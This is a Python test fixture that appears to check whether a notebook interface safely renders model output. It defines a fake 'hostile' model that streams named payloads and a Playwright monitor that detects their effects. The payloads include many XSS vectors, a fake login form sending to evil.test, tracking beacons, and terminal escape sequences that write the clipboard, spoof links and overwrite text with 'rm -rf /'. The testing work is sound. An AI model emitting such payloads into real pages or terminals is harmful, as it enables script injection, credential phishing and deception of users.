"""Hostile answers, a model that returns them, and a monitor of the page that shows them."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

from local_fakes import EchoPiece

if TYPE_CHECKING:
    from playwright.sync_api import Page

EVIL = "evil.test"
"""Every address in the payloads holds this."""
RUN = "(top.hurt=top.hurt||[]).push(document.title)"
ESC = "\x1b"

PAGE_PAYLOADS = {
    "script": f"<script>{RUN}</script>\n\n<ScRiPt src=//evil.test/x.js></sCrIpT>\n\n<script\n>{RUN}</script\n>",
    "handlers": f'<img src=x onerror="{RUN}"><b onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex=0>x</b>',
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s /><script>{RUN}</script></svg>',
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/><image href="http://evil.test/i.svg"/></svg>',
    "frames": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="javascript:{RUN}"></iframe>'
    "<object data=//evil.test/o></object><embed src=//evil.test/e>",
    "form": "<form action=http://evil.test/ id=f><input name=password autofocus><button>Log in</button></form>"
    "<input form=f formaction=http://evil.test/>",
    "style": "<style>@import url(http://evil.test/c.css);*{display:none!important}</style>\n\n"
    "<link rel=stylesheet href=http://evil.test/l.css>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:red' class=jp-Dialog>Your token?</div>\n\n"
    '<p class="jp-Dialog lm-Widget" id="main">x</p>',
    "page control": f"<meta http-equiv=refresh content='0;url=http://evil.test/'><base href=http://evil.test/>"
    f"<body onload={RUN}><title>evil</title>",
    "links": f"[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) [c](java\tscript:{RUN}) [d](\x01javascript:{RUN}) "
    f"<javascript:{RUN}> [e](data:text/html,<script>{RUN}</script>) [f](vbscript:x) [g](file:///etc/passwd)",
    "html links": f'<a href="javascript:{RUN}">a</a><a href="data:text/html;base64,PHNjcmlwdD4=">b</a>'
    f'<area href="javascript:{RUN}"><a href=http://evil.test ping=http://evil.test/p>c</a>',
    "server links": "[a](/api/shutdown) [b](//evil.test) [c](../logout) [d](#x) [e](lab?reset) [f](command:x)",
    "reference link": f'[x][r] [y]\n\n[r]: javascript:{RUN}\n[y]: <data:text/html,x> "t"\n',
    "spoofed link": "[https://bank.test/login](https://evil.test/) <https://bank.test@evil.test/> [b\u202ea](//x)",
    "title": f'[x](http://evil.test "\\" onmouseover={RUN} x=\\"") [y](http://evil.test/\'onmouseover=\'{RUN})',
    "beacons": "![a](http://evil.test/a.png) ![b][r] [![c](http://evil.test/c.png)](http://evil.test/)\n\n"
    "[r]: http://evil.test/b.png\n\n<img src=http://evil.test/d.png srcset='http://evil.test/e.png 2x'>"
    "<picture><source srcset=http://evil.test/f.png></picture><video poster=http://evil.test/g.png></video>"
    "<body background=http://evil.test/h.png><p style='background:url(http://evil.test/i.png)'>",
    "prefetch": "<link rel=prefetch href=http://evil.test/p><link rel=dns-prefetch href=//evil.test>"
    "<script type=speculationrules>{}</script>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><b title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>\n\n"
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>\n\n<noscript><p title='</noscript><img src=x "
    f"onerror={RUN}>'>\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "unclosed": f"<!-- <img src=x onerror={RUN}>\n\n--!> <img src=x onerror={RUN}>\n\n<textarea><xmp><plaintext>",
    "declarations": f"<![CDATA[ <script>{RUN}</script> ]]> <?xml-stylesheet href='http://evil.test/x'?> <!DOCTYPE x>",
    "fence break": f"```html\n</code></pre><img src=x onerror={RUN}>\n```\n\n````\n```\n<img src=x>\n````\n\n"
    f'```a"onclick={RUN}<img/src=x>\nx\n```\n\n``` x `</code><script>{RUN}</script>\n\n~~~',
    "inline code break": f"`` ` </code><img src=x onerror={RUN}> `` `<svg onload={RUN}>` ``",
    "table break": f"| a |\n|:-:|\n| <svg onload={RUN}> | `|` \n| </td></table><img src=x onerror={RUN}> |",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; &#x3c;svg onload={RUN}&#x3e;",
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\style{{position:fixed;inset:0}}{{\\rule{{90em}}{{90em}}}}\\) "
    f"$$\\class{{jp-Dialog}}{{x}} \\cssId{{main}}{{y}}$$ \\[\\require{{html}}\\def\\sum{{0}}\\] $\\text{{<img src=x "
    f"onerror={RUN}>}}$ $\\unicode{{x202e}}$ $\\includegraphics{{http://evil.test/x.png}}$",
    "formula that spreads": "$\\smash{\\raise 40em{\\rule{200em}{80em}}}$ $$\\kern-90em\\rlap{\\rule{300em}{60em}}$$ "
    "$\\llap{\\lower 90em{\\rule{300em}{200em}}}$",
    "notebook": '{"output_type": "display_data", "metadata": {"trusted": true, "isolated": false}, "data": '
    f'{{"application/javascript": "{RUN}", "text/html": "<img src=x onerror={RUN}>"}}}}\n\n'
    "%%javascript\n\n%%html\n\n</script>{{ 7*7 }} ${7*7} `${7*7}`",
    "paths": "/etc/passwd",
    "address": "http://evil.test/page.html",
}
"""By name. Shown by ``IPython.display.HTML`` or ``Markdown`` in a running notebook, most of them act."""

TERMINAL_PAYLOADS = {
    "title": f"{ESC}]0;hurt\x07{ESC}]2;hurt{ESC}\\{ESC}k hurt{ESC}\\ title",
    "clipboard": f"{ESC}]52;c;aHVydA==\x07{ESC}]52;c;{'aHVydA==' * 200}\x07 clipboard",
    "hyperlink": f"{ESC}]8;;http://evil.test/{ESC}\\https://bank.test{ESC}]8;;{ESC}\\ hyperlink",
    "cursor": f"safe{ESC}[2K{ESC}[1A{ESC}[G{ESC}[H{ESC}[2J{ESC}[3J{ESC}[10;10H{ESC}7{ESC}8 cursor",
    "modes": f"{ESC}[?1049h{ESC}[?25l{ESC}[?2004h{ESC}[?1000h{ESC}c{ESC}(0{ESC}#8{ESC}[!p modes",
    "queries": f"{ESC}[6n{ESC}[c{ESC}[21t{ESC}]10;?\x07{ESC}P$qm{ESC}\\{ESC}Z\x05 queries",
    "programs": f"{ESC}]1337;File=name=aHVy:aHVy\x07{ESC}]9;4;1\x07{ESC}_Gf=100;aHVy{ESC}\\{ESC}^pm{ESC}\\ programs",
    "eight bits": "\x9b2J\x9d0;hurt\x9c\x90q\x9c\x84\x85\x8d eight bits",
    "overwriting": "rm -rf /\rls       \n1234\b\b\b\b5678\x7f\x0b\x0c\x0e\x0f\x00\x07 overwriting",
    "unfinished": f"unfinished {ESC}]0;" + "hurt " * 300,
    "nested": f"{ESC}[{ESC}[31mred{ESC}{ESC}]0;a{ESC}]0;b\x07 {ESC}\n[2J nested",
    "reordering": "if user != \u202e\u2066'nimda'\u2069 \u2066:\u2069 \u202d\u202a\u202b\u202c reordering",
}
"""By name. Written to a terminal unchanged, they control it or misrepresent text."""

PAYLOADS = {**PAGE_PAYLOADS, **{f"terminal {name}": text for name, text in TERMINAL_PAYLOADS.items()}}
EVERYTHING = "everything"

_WATCH = """(outputs) => {
    const forbidden = 'script,style,link,meta,base,title,img,picture,source,video,audio,svg,object,embed,iframe,' +
        'frame,form,input,button,textarea,select,option,template,dialog,canvas,map,area,noscript,[style],[id]';
    window.found = new Set();
    window.inspect = (areas = document.querySelectorAll(outputs)) => {
        for (const output of areas) {
            for (const node of output.querySelectorAll('*')) {
                const formula = node.closest('mjx-container');
                if (!formula && node.matches(forbidden)) window.found.add('element: ' + node.outerHTML.slice(0, 80));
                if (formula && node.matches('a,[href],img,script,form,input,.jp-Dialog,#main'))
                    window.found.add('in a formula: ' + node.outerHTML.slice(0, 80));
                if (['fixed', 'sticky'].includes(getComputedStyle(node).position))
                    window.found.add('placed: ' + node.outerHTML.slice(0, 80));
                if (node.matches('a') && !(/^(https?:\\/\\/|mailto:)/.test(node.getAttribute('href') || '')))
                    window.found.add('link: ' + node.outerHTML.slice(0, 80));
                for (const {name} of node.attributes)
                    if (name.startsWith('on')) window.found.add('handler: ' + name);
            }
        }
    };
    window.covers = () => {
        const over = new Set();
        for (let x = 5; x < innerWidth; x += 30) for (let y = 5; y < innerHeight; y += 30) {
            const output = document.elementFromPoint(x, y)?.closest(outputs);
            if (!output) continue;
            const box = output.getBoundingClientRect();
            // A pixel belongs to the box that holds most of it.
            if (x < box.left - 1 || x > box.right + 1 || y < box.top - 1 || y > box.bottom + 1)
                over.add(`covers: ${x},${y} of ${[box.left, box.top, box.right, box.bottom]}: ` +
                    output.textContent.slice(0, 60));
        }
        return [...over];
    };
    window.inspect();
    // Only what changed is looked at: looking at all of it each time would cost the square of the answers.
    const changed = new Set();
    new MutationObserver((records) => {
        if (!changed.size) requestAnimationFrame(() => {
            const now = [...changed];
            changed.clear();
            window.inspect(now);
        });
        for (const {target} of records) {
            const within = target.closest?.(outputs);
            for (const output of within ? [within] : target.querySelectorAll?.(outputs) ?? []) changed.add(output);
        }
    }).observe(document.body, {childList: true, subtree: true, attributes: true});
}"""


def pieces(text: str) -> Iterator[str]:
    """The text cut every few characters, so that no mark of more than three comes whole."""
    sizes, position = (1, 2, 3, 2), 0
    while position < len(text):
        size = sizes[position % len(sizes)]
        yield text[position : position + size]
        position += size


class HostileModel:
    """Answers ``say <name>`` with the payload of that name, in pieces; ``say everything`` with all of them.

    ``seconds`` is what an answer takes at least, so that its unfinished states are shown too.
    """

    name = "local-hostile"
    context = 1_000_000
    available = True
    reason: str | None = None

    def __init__(self, seconds: float = 0.0) -> None:
        self._seconds = seconds
        self._never = threading.Event()

    def count_tokens(self, messages_or_text: list[dict[str, Any]] | str) -> int:
        return 5

    def stream(self, messages: list[dict[str, Any]], **asked: Any) -> Iterator[EchoPiece]:
        name = messages[-1]["content"].strip().removeprefix("say ")
        parts = list(pieces("\n\n".join(PAYLOADS.values()) if name == EVERYTHING else PAYLOADS[name]))
        for part in parts:
            self._never.wait(self._seconds / len(parts))
            yield EchoPiece(part)
        yield EchoPiece("", "stop", 5, len(parts))


class Watch:
    """Notices what an output does to the page that shows it; ``outputs`` selects the elements that hold model text.

    Begin it before anything is shown, and again after each load of the page.
    """

    def __init__(self, page: Page, outputs: str = ".jp-OutputArea-output") -> None:
        self._page = page
        self._seen: list[str] = []
        page.on("request", lambda request: self._note("request", request.url))
        page.on("dialog", self._dialog)
        page.on("popup", lambda popup: self._seen.append(f"popup: {popup.url}"))
        page.on("framenavigated", lambda frame: self._note("navigation", frame.url))
        page.evaluate(_WATCH, outputs)

    def covers(self) -> list[str]:
        """Where an output lies over something else in what the window shows now."""
        found: list[str] = self._page.evaluate("() => window.covers()")
        return found

    def harm(self) -> list[str]:
        """Everything that happened since the beginning and should not have; empty where all is well."""
        self._page.evaluate("() => window.inspect()")
        ran = self._page.evaluate("() => window.hurt || []")
        found = self._page.evaluate("() => [...window.found]")
        return [*(f"ran: {title}" for title in ran), *found, *self.covers(), *self._seen]

    def _note(self, kind: str, url: str) -> None:
        if EVIL in url or url.startswith(("javascript:", "file:")) or "/api/shutdown" in url:
            self._seen.append(f"{kind}: {url[:80]}")

    def _dialog(self, dialog: Any) -> None:
        self._seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()
